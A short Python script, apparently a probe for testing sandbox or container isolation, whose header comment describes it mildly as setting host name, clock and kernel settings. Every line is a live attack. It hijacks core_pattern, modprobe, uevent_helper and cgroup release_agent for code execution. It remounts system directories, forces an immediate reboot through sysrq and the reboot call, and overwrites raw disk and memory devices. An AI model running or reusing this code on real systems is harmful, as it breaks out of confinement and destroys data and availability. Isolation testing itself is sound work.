#!/usr/bin/python3 -IS
# Sets the host's name, clock and kernel settings; mounts over /proc and /sys/fs/cgroup; makes device nodes.
import ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
def attempt(act, *args):
    try:
        act(*args)
    except (OSError, ValueError):
        pass
def write(path, text):
    attempt(lambda: open(path, "w").write(text))
attempt(socket.sethostname, "owned")
attempt(time.clock_settime, time.CLOCK_REALTIME, 1)
for target in (b"/proc", b"/sys", b"/sys/fs/cgroup", b"/usr", b"/etc", b"/lab", b"/", b"/tmp"):
    libc.mount(b"tmpfs", target, b"tmpfs", 0, None)
    libc.mount(b"/tmp", target, None, 4096 | 16384, None)   # bind
    libc.mount(None, target, None, 32 | 4096, None)         # remount, writable
    libc.mount(None, target, None, 1 << 20 | 16384, None)   # shared
    libc.umount2(target, 2)
for path in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
             "/proc/sys/vm/overcommit_memory", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent"):
    write(path, "|/tmp/owned")
write("/proc/sysrq-trigger", "b")
write("/proc/1/oom_score_adj", "-1000")
for number, name in ((8 * 256, "sda"), (254 * 256, "vda"), (1 * 256 + 1, "mem")):
    attempt(os.mknod, "/tmp/" + name, 0o060666, number)
    attempt(lambda: open("/tmp/" + name, "r+b").write(b"owned"))
libc.unshare(0x20000000 | 0x00020000 | 0x04000000)  # PID, mounts, UTS: and once more from in there
attempt(socket.sethostname, "owned")
libc.reboot(0x1234567)
